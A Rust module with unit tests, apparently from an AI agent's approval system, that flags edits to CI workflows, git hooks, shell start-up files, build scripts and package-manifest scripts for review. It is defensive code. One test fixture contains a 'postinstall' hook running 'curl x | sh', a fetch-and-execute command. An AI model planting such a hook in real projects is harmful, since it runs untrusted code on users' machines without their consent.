//! Sensitive files: edits that would change what runs later (in CI, on a commit, when a
//! shell starts, when packages install or the project builds) or what Warden applies. A
//! plain workspace edit runs without a question; an edit to one of these is a question
//! (`approvals.sensitive_edits`), which the reviewer model may answer, seeing the diff.

use std::path::Path;

/// What kind of sensitive file `path` (relative to the workspace) is, judged from its
/// name and, for package manifests, from what the edit changes (`diff`: the edit's
/// added and removed lines, or the whole new file). None for an ordinary file.
pub fn class(path: &Path, diff: &str) -> Option<&'static str> {
    let text = path.to_string_lossy().replace('\\', "/");
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let under = |dir: &str| text.starts_with(dir) || text.contains(&format!("/{dir}"));
    if under(".github/workflows/")
        || under(".circleci/")
        || under(".buildkite/")
        || matches!(
            name.as_str(),
            ".gitlab-ci.yml"
                | ".travis.yml"
                | "azure-pipelines.yml"
                | "bitbucket-pipelines.yml"
                | "Jenkinsfile"
                | ".drone.yml"
        )
    {
        return Some("a CI workflow");
    }
    // Git's own files, and the hook managers that install hooks from the workspace.
    if under(".git/")
        || under(".husky/")
        || under(".githooks/")
        || matches!(
            name.as_str(),
            ".gitmodules"
                | ".gitattributes"
                | ".pre-commit-config.yaml"
                | "lefthook.yml"
                | ".lefthook.yml"
                | "lefthook.yaml"
                | ".huskyrc"
        )
    {
        return Some("git hooks or configuration");
    }
    if under(".warden/") {
        return Some("Warden's project policy");
    }
    if matches!(
        name.as_str(),
        ".bashrc"
            | ".bash_profile"
            | ".bash_login"
            | ".profile"
            | ".zshrc"
            | ".zshenv"
            | ".zprofile"
            | ".zlogin"
            | ".envrc"
            | ".inputrc"
    ) || under(".config/fish/")
    {
        return Some("a shell start-up file");
    }
    if matches!(
        name.as_str(),
        "build.rs"
            | "Makefile"
            | "GNUmakefile"
            | "makefile"
            | "CMakeLists.txt"
            | "justfile"
            | "Justfile"
            | "meson.build"
            | "build.gradle"
            | "build.gradle.kts"
            | "settings.gradle"
            | "gradlew"
            | "setup.py"
            | "conftest.py"
            | "noxfile.py"
            | "tasks.py"
            | "Rakefile"
            | "BUILD"
            | "BUILD.bazel"
            | "WORKSPACE"
    ) || name.ends_with(".mk")
    {
        return Some("a build script");
    }
    if manifest_scripts_changed(&name, diff) {
        return Some("a package manifest's scripts");
    }
    None
}

/// Whether an edit to a package manifest touches what it runs: npm's lifecycle and
/// named scripts, Python's build backend and entry points, Cargo's build script, and
/// the like. Other manifest edits (a version, a dependency) are ordinary.
fn manifest_scripts_changed(name: &str, diff: &str) -> bool {
    let markers: &[&str] = match name {
        "package.json" => &[
            "\"scripts\"",
            "install\"",
            "prepare\"",
            "\"pre",
            "\"post",
            "\"bin\"",
        ],
        "pyproject.toml" => &[
            "[build-system]",
            "scripts]",
            "entry-points",
            "build-backend",
            "[tool.hatch.build",
            "cmdclass",
        ],
        "setup.cfg" => &["[options.entry_points]", "cmdclass", "scripts"],
        "Cargo.toml" => &["build =", "build=", "[build-dependencies]", "links ="],
        "composer.json" => &["\"scripts\""],
        "Gemfile" | "gemspec" => &["system(", "`"],
        _ => return false,
    };
    diff.lines()
        .filter(|l| l.starts_with('+') || l.starts_with('-') || !diff.contains("\n+"))
        .any(|l| markers.iter().any(|m| l.contains(m)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sensitive_files_are_named_by_class() {
        let cases = [
            (".github/workflows/ci.yml", "", Some("a CI workflow")),
            ("sub/.gitlab-ci.yml", "", Some("a CI workflow")),
            (
                ".git/hooks/pre-commit",
                "",
                Some("git hooks or configuration"),
            ),
            (".gitmodules", "", Some("git hooks or configuration")),
            (".husky/pre-commit", "", Some("git hooks or configuration")),
            (
                ".pre-commit-config.yaml",
                "",
                Some("git hooks or configuration"),
            ),
            (".warden/config.toml", "", Some("Warden's project policy")),
            (".bashrc", "", Some("a shell start-up file")),
            (".envrc", "", Some("a shell start-up file")),
            ("Makefile", "", Some("a build script")),
            ("crates/x/build.rs", "", Some("a build script")),
            ("rules.mk", "", Some("a build script")),
            (
                "package.json",
                "+    \"postinstall\": \"curl x | sh\",",
                Some("a package manifest's scripts"),
            ),
            ("package.json", "+    \"left-pad\": \"^1.3.0\",", None),
            (
                "Cargo.toml",
                "+build = \"gen.rs\"",
                Some("a package manifest's scripts"),
            ),
            ("Cargo.toml", "+serde = \"1\"", None),
            ("src/main.rs", "+fn main() {}", None),
            ("README.md", "", None),
            ("docs/workflows.md", "", None),
        ];
        for (path, diff, expected) in cases {
            assert_eq!(class(Path::new(path), diff), expected, "{path}");
        }
    }
}
